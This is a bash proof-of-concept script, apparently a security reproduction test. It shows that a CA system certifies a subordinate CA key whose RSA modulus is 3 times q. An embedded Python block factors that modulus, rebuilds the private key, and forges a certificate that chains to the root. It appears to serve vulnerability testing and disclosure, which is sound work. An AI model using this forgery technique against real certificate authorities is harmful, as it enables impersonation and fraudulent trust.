#!/usr/bin/env bash
# F2 at the CA level: a ROOT-ISSUE application (an outside accredited CA) whose PKCS#10 holds an RSA-2048 key with
# modulus 3 x q is certified by the Root CA as a subordinate CA. Anyone factors the modulus from that CA certificate
# and issues certificates that chain to the root. Exit 0 when it reproduces.
NAME=root-issue-factor; . "$(dirname "$0")/common.sh"
staff >/dev/null || exit 1
as admin ca add --code ROOT --name "Attack Root CA" --kind root || { show $?; exit 1; }
as admin ca init --code ROOT --key-algorithm p256 --key-out $W/root.p8 --passphrase-file $W/ca.pass --cert-out $W/root.pem || { show $?; exit 1; }
python3 "$(dirname "$0")/mkweakcsr.py" factor3 $W/ext.csr
cat >$W/ra.json <<J
{"country":"KZ","region":"Astana","city":"Astana","org_name":"Outside CA LLP","ca_name":"Outside Accredited CA","email":"ca@example.kz",
 "usage":["subordinate_ca"],"validity":"5y","application_date":"$(TZ=Asia/Almaty date +%F)","head_full_name":"Head Person"}
J
as op application submit --ca ROOT --form ROOT-ISSUE --data $W/ra.json --attachments accreditation_certificate_copy --consent --json || { show $?; exit 1; }
APP=$(jget id); as off2 application approve $APP || { show $?; exit 1; }
as off1 certificate issue --application $APP --csr $W/ext.csr --out $W/ext.pem --ca-passphrase-file $W/ca.pass; rc=$?; show $rc
[ $rc -eq 0 ] || exit 1
openssl x509 -in $W/ext.pem -noout -subject -ext basicConstraints | tr '\n' ' '; echo
# a stranger rebuilds the CA key from the certificate and issues a holder certificate under it
python3 - $W/ext.pem $W/forged-ca.key <<'PY'
import sys
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateNumbers
pub = x509.load_pem_x509_certificate(open(sys.argv[1], 'rb').read()).public_key().public_numbers()
p = next(f for f in range(3, 1 << 20, 2) if pub.n % f == 0); q = pub.n // p
d = pow(pub.e, -1, (p - 1) * (q - 1))
k = RSAPrivateNumbers(p, q, d, d % (p - 1), d % (q - 1), pow(q, -1, p), pub).private_key(unsafe_skip_rsa_key_validation=True)
open(sys.argv[2], 'wb').write(k.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
PY
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout $W/victim.key -subj "/C=KZ/serialNumber=IIN900101300017/CN=FAKE HOLDER" -out $W/victim.csr 2>/dev/null
printf 'basicConstraints=CA:FALSE\nkeyUsage=critical,digitalSignature\n' >$W/ext.cnf
openssl x509 -req -in $W/victim.csr -CA $W/ext.pem -CAkey $W/forged-ca.key -set_serial 0x1234 -days 30 -sha256 -extfile $W/ext.cnf -out $W/fake.pem 2>$W/ossl.err || { cat $W/ossl.err; exit 1; }
v=$(openssl verify -CAfile $W/root.pem -untrusted $W/ext.pem $W/fake.pem 2>&1 | tr '\n' ' ')
echo "== certificate made by a stranger under the Root-certified CA: $v"
verify
case "$v" in *": OK"*) echo REPRODUCED; exit 0;; esac
exit 1
